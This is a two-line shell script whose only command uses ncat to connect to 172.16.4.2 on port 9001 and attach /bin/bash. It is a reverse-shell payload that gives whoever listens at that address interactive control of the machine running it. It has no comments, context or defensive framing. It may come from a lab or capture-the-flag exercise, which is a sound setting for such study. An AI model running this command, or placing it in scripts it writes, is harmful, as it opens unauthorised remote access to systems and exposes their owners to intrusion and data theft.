#!/bin/sh
ncat 172.16.4.2 9001 -e /bin/bash
